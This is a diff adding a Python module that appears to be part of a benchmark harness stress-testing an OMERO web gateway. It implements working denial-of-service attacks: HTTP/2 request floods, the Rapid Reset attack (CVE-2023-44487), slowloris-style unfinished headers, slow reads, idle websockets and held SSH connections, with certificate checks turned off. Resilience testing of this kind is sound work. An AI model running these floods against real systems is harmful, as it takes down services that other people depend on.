@@ -1,0 +1,157 @@
+"""The hostile visitor: `python -m bench.attack.hostile KIND ADDRESS HOST SECONDS` does one thing for that long.
+
+Prints as JSON how much of it was done. Runs in a network namespace of its own, so that it has an address of its own.
+"""
+
+import json
+import random
+import socket
+import ssl
+import sys
+import time
+from collections.abc import Callable, Iterator
+from contextlib import closing, suppress
+from itertools import count
+
+import h2.connection
+import h2.errors
+import h2.exceptions
+
+COLD = "/webgateway/render_image/{}/0/0/?q=0.{}"
+KEPT = "/webgateway/get_thumbnails/?" + "&".join(f"id={number}" for number in range(1, 51))
+STREAMS = 100
+"""Requests of one connection that are under way at once."""
+HELD = 2400
+SECONDS_TO_CONNECT = 2
+
+
+def main(kind: str, address: str, host: str, seconds: float) -> dict[str, int]:
+    """What one kind of attack could do in so many seconds."""
+    return KINDS[kind](address, host, time.monotonic() + seconds)
+
+
+def cold(address: str, host: str, end: float) -> dict[str, int]:
+    """Ask for pages that nobody has asked for, as fast as HTTP/2 takes them, and read the answers."""
+    return _ask(address, host, end, reset=False)
+
+
+def reset(address: str, host: str, end: float) -> dict[str, int]:
+    """The same, giving each request up at once (CVE-2023-44487)."""
+    return _ask(address, host, end, reset=True)
+
+
+def headers(address: str, _: str, end: float) -> dict[str, int]:
+    """Connections whose request never ends."""
+    return _hold(end, lambda: _begun(_connected(address, 80), b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: "))
+
+
+def reading(address: str, host: str, end: float) -> dict[str, int]:
+    """Visitors who ask for a large answer and do not read it."""
+    request = f"GET {KEPT} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
+    return _hold(end, lambda: _begun(_secured(address, host), request))
+
+
+def websockets(address: str, host: str, end: float) -> dict[str, int]:
+    """Websockets that say nothing."""
+    asked = f"GET /omero-ws HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
+    rest = "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
+    return _hold(end, lambda: _begun(_secured(address, host), f"{asked}{rest}".encode()))
+
+
+def ssh(address: str, _: str, end: float) -> dict[str, int]:
+    """Connections to the bastion that never log in."""
+    return _hold(end, lambda: _connected(address, 22))
+
+
+KINDS: dict[str, Callable[[str, str, float], dict[str, int]]] = {
+    "cold": cold,
+    "reset": reset,
+    "headers": headers,
+    "reading": reading,
+    "websockets": websockets,
+    "ssh": ssh,
+}
+
+
+def _hold(end: float, connect: Callable[[], socket.socket]) -> dict[str, int]:
+    """Keep as many connections as there may be, and open another for each that is closed."""
+    held: list[socket.socket] = []
+    opened = failed = 0
+    while time.monotonic() < end:
+        try:
+            held.append(connect())
+            opened += 1
+        except OSError:
+            failed += 1
+            time.sleep(0.01)
+        if len(held) >= HELD:
+            held.pop(0).close()
+    for one in held:
+        one.close()
+    return {"opened": opened, "refused": failed}
+
+
+def _ask(address: str, host: str, end: float, *, reset: bool) -> dict[str, int]:
+    asked = connections = 0
+    while time.monotonic() < end:
+        connections += 1
+        with suppress(OSError, h2.exceptions.ProtocolError), closing(_secured(address, host, "h2")) as wire:
+            for _ in _requests(wire, host, end, reset=reset):
+                asked += 1
+    return {"requests": asked, "connections": connections}
+
+
+def _requests(wire: ssl.SSLSocket, host: str, end: float, *, reset: bool) -> Iterator[int]:
+    """Each request of one connection, until the server has had enough of it."""
+    connection = h2.connection.H2Connection()
+    connection.initiate_connection()
+    wire.settimeout(0.05)
+    for stream in count(1, 2):
+        path = COLD.format(random.randint(1, 384), random.randint(10**8, 10**9))  # noqa: S311  # no secret
+        names = {":method": "GET", ":scheme": "https", ":authority": host, ":path": path}
+        while not reset and connection.open_outbound_streams >= STREAMS and time.monotonic() < end:
+            _read(wire, connection)
+        if time.monotonic() >= end:
+            return
+        connection.send_headers(stream, list(names.items()), end_stream=True)
+        if reset:
+            connection.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
+        yield stream
+        if not reset or stream % (2 * STREAMS) == 1:
+            _read(wire, connection)
+
+
+def _read(wire: ssl.SSLSocket, connection: h2.connection.H2Connection) -> None:
+    """Send what is to be sent, and take what has come."""
+    wire.sendall(connection.data_to_send())
+    with suppress(TimeoutError, ssl.SSLWantReadError):
+        data = wire.recv(65536)
+        if not data:
+            raise ConnectionResetError
+        for event in connection.receive_data(data):
+            if size := getattr(event, "flow_controlled_length", 0):
+                connection.acknowledge_received_data(size, getattr(event, "stream_id"))  # noqa: B009
+    wire.sendall(connection.data_to_send())
+
+
+def _connected(address: str, port: int) -> socket.socket:
+    return socket.create_connection((address, port), timeout=SECONDS_TO_CONNECT)
+
+
+def _secured(address: str, host: str, protocol: str = "http/1.1") -> ssl.SSLSocket:
+    # Who attacks looks at no certificate.
+    context = ssl.create_default_context()
+    context.check_hostname = False
+    context.verify_mode = ssl.CERT_NONE
+    context.set_alpn_protocols([protocol])
+    return context.wrap_socket(_connected(address, 443), server_hostname=host)
+
+
+def _begun(wire: socket.socket, request: bytes) -> socket.socket:
+    wire.sendall(request)
+    return wire
+
+
+if __name__ == "__main__":
+    _, wanted, target, name, duration = sys.argv
+    print(json.dumps(main(wanted, target, name, float(duration))))
